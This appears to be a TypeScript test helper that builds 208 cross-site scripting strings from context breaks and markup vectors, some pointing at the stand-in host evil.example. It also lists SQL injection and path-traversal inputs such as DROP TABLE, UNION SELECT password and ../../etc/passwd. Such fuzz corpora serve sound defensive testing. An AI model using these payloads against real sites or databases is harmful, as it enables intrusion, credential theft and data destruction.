/** Ways out of text into markup: each context it may stand in, with each thing that runs there. 208 in all. */
export function listPayloads(): string[] {
  const breaks = [
    '',
    '"',
    "'",
    '">',
    "'>",
    '</title>',
    '</style>',
    '</textarea>',
    '</script>',
    '-->',
    ']]>',
    '</option>',
    '&quot;>',
  ];
  const vectors = [
    '<script>window.hit=1</script>',
    '<img src=x onerror=window.hit=1>',
    '<svg/onload=window.hit=1>',
    ' onfocus=window.hit=1 autofocus x=',
    '<a href="javascript:window.hit=1">x</a>',
    '<iframe srcdoc="&lt;script>parent.hit=1&lt;/script>">',
    '<style>@import "//evil.example";</style>',
    '<base href="//evil.example/">',
    '<form action="//evil.example"><button>x',
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    '<object data="data:text/html,<script>1</script>">',
    '<details open ontoggle=window.hit=1>',
    '<math><mtext></p><img src=x onerror=window.hit=1>',
    '&lt;script&gt;window.hit=1&lt;/script&gt;',
    '\u202e<scr\u200bipt>window.hit=1</scr\u200bipt>',
    '{{constructor.constructor("window.hit=1")()}}',
  ];
  return breaks.flatMap((out) => vectors.map((vector) => out + vector));
}

/** What a question to the database must survive, whatever it stands in. */
export const INJECTIONS = [
  "'",
  "' OR '1'='1",
  "'; DROP TABLE audit; --",
  '1; SELECT pg_sleep(5)',
  "x' UNION SELECT password FROM auth_credential --",
  '%27%20OR%201=1',
  '\\',
  '\u0000',
  '{}',
  '9'.repeat(400),
  '../../etc/passwd',
  '$1',
  'ARRAY[1]',
  '\ud800',
] as const;
